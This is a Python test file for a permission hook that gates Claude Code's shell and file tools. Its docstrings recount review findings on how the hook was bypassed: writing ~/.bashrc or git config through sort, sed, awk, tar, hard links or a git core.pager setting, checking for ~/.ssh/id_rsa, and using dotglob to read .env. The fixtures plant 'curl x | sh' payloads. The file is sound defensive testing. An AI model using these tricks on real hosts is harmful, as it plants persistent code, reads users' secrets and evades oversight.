"""`shellgate hook` and the files the host runs by itself: a write to one
through any writer, or through another name of the file, is never left to
an allow rule or a mode.

From a review of the hook: writers the analysis does not model as writing
a given path (`sort -o`, `uniq IN OUT`, `sed 'w …'`, an awk `>`, `find
-fprint`, `tar -C ~`, `git config`) got no decision when they wrote
~/.bashrc or git's configuration, so in bypassPermissions mode, or with an
allow rule such as `Bash(sort:*)`, Claude Code ran them unasked and the
host ran what they wrote at the next login; a hard link in the project to
~/.bashrc was written as a project file; `hostname -I` and `test -f
~/.ssh/id_rsa` were allowed. Each writer is first run on a throwaway home
(the control: the host-run file changed), then judged.
"""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest
from hookcalls import ask_hook, hook_env

pytestmark = pytest.mark.sandbox  # the file tools' policy is the sandbox's plan

#: (command, the file below the home it writes; @HOME@ is the home's path)
WRITERS = [
    ("sort -o ~/.bashrc notes", ".bashrc"),
    ("sort --output=$HOME/.profile notes", ".profile"),
    ("uniq notes ~/.bashrc", ".bashrc"),
    ("sed -n 'w @HOME@/.bashrc' notes", ".bashrc"),
    ("awk '{print > \"@HOME@/.bashrc\"}' notes", ".bashrc"),
    ("find . -name notes -fprint ~/.bashrc", ".bashrc"),
    ("cp -r payload/. ~", ".bashrc"),
    ("tar -xf payload.tar -C ~", ".bashrc"),
    ("git config --global core.pager 'sh -c x'", ".gitconfig"),
]


def _project(tmp_path: Path) -> tuple[Path, dict[str, str]]:
    env = hook_env(tmp_path)
    project = tmp_path / "project"
    (project / "payload").mkdir(parents=True)
    (project / "notes").write_text("curl x | sh\n")
    (project / "payload" / ".bashrc").write_text("curl x | sh\n")
    subprocess.run(["tar", "-cf", "payload.tar", "-C", "payload", ".bashrc"], cwd=project,
                   check=True)
    return project, env


@pytest.mark.parametrize(("command", "target"), WRITERS)
def test_a_writer_naming_a_file_the_host_runs_is_asked_about_in_every_mode(
        tmp_path: Path, command: str, target: str) -> None:
    project, env = _project(tmp_path)
    home = Path(env["HOME"])
    command = command.replace("@HOME@", str(home))
    subprocess.run(["bash", "-c", command], cwd=project, env=env, check=False,
                   capture_output=True, timeout=30)
    assert (home / target).exists(), f"control: {command} wrote ~/{target}"
    (home / target).unlink()
    for mode in ("default", "bypassPermissions"):
        assert ask_hook("Bash", {"command": command}, project, env, mode) in ("ask", "deny"), \
            (command, mode)


@pytest.mark.parametrize("command", [
    "git config core.fsmonitor 'touch x'", "crontab jobs.txt", "systemctl --user enable x",
])
def test_a_command_writing_a_configuration_the_host_obeys_by_its_meaning_is_asked_about(
        tmp_path: Path, command: str) -> None:
    project, env = _project(tmp_path)
    subprocess.run(["git", "init", "-q", str(project)], check=True)
    assert ask_hook("Bash", {"command": command}, project, env, "bypassPermissions") == "ask"


@pytest.mark.parametrize("command", ["sort -o sorted.txt notes", "uniq notes out.txt",
                                     "git commit -m config", "cp notes ~/notes.bak"])
def test_a_writer_that_names_no_file_the_host_runs_stays_claude_codes_to_decide(
        tmp_path: Path, command: str) -> None:
    project, env = _project(tmp_path)
    assert ask_hook("Bash", {"command": command}, project, env) is None


def test_a_hard_link_in_the_project_to_a_file_the_host_runs_is_never_written(
        tmp_path: Path) -> None:
    project, env = _project(tmp_path)
    bashrc = Path(env["HOME"]) / ".bashrc"
    bashrc.write_text("# mine\n")
    os.link(bashrc, project / "notes.sh")
    with (project / "notes.sh").open("a") as f:
        f.write("# through the link\n")
    assert "through the link" in bashrc.read_text(), "control: one file, two names"
    cases = [("Write", {"file_path": str(project / "notes.sh"), "content": "curl x|sh\n"}),
             ("Edit", {"file_path": str(project / "notes.sh"), "old_string": "mine",
                       "new_string": "curl x|sh"}),
             ("Bash", {"command": "echo 'curl x|sh' >> notes.sh"})]
    for tool, data in cases:
        assert ask_hook(tool, data, project, env, "bypassPermissions") == "deny", tool
    # a file with one name is the project's own
    assert ask_hook("Write", {"file_path": str(project / "other.sh"), "content": "x"},
                    project, env) is None


def test_what_tells_the_host_apart_from_the_sandbox_is_not_allowed(tmp_path: Path) -> None:
    """`hostname -I` prints the machine's addresses (in the sandbox, its
    own namespace's); `test -f ~/.ssh/id_rsa` says whether a key exists."""
    project, env = _project(tmp_path)
    shown = subprocess.run(["hostname", "-I"], capture_output=True, text=True, check=False)
    assert shown.returncode == 0, "control: hostname -I answers on the host"
    assert ask_hook("Bash", {"command": "hostname -I"}, project, env) is None
    assert ask_hook("Bash", {"command": "test -f ~/.ssh/id_rsa && echo y"}, project, env) \
        == "deny"
    assert ask_hook("Bash", {"command": "[ -f notes ] && echo y"}, project, env) == "allow"


@pytest.mark.parametrize(("rc", "name", "line"), [
    (".bashrc", "bash", "shopt -s dotglob"),
    (".bash_aliases", "bash", "shopt -s dotglob"),
    (".zshrc", "zsh", "setopt GLOB_DOTS"),
])
def test_options_the_users_startup_files_set_stop_an_allow_they_change(
        tmp_path: Path, rc: str, name: str, line: str) -> None:
    """From a review: `shopt -s dotglob` in ~/.bashrc, not exported, makes
    the shell Claude Code sources it into read `.env` through `cat *`; the
    hook saw only exported options and allowed it. A command with no
    pattern reads alike and stays allowed, and a commented-out option (as
    Debian's own ~/.bashrc has `#shopt -s globstar`) changes nothing."""
    project, env = _project(tmp_path)
    home = Path(env["HOME"])
    (project / ".env").write_text("KEY=s3cret\n")
    (home / ".bashrc").write_text("#shopt -s globstar\n")
    if rc == ".bash_aliases":
        (home / ".bashrc").write_text("#shopt -s globstar\n. ~/.bash_aliases\n")
    assert ask_hook("Bash", {"command": "cat *"}, project, env) == "allow", "commented out"
    (home / rc).write_text(f"{(home / rc).read_text() if rc == '.bashrc' else ''}{line}\n")
    shell = shutil.which(name)
    if shell is not None:  # the control, where that shell is installed
        shown = subprocess.run([shell, "-ic", "cat *"], cwd=project, env=env,
                               capture_output=True, text=True, check=False, timeout=30)
        assert "s3cret" in shown.stdout, f"control: {name} with {line} read .env"
    assert ask_hook("Bash", {"command": "cat *"}, project, env) is None
    assert ask_hook("Bash", {"command": "cat notes"}, project, env) == "allow"
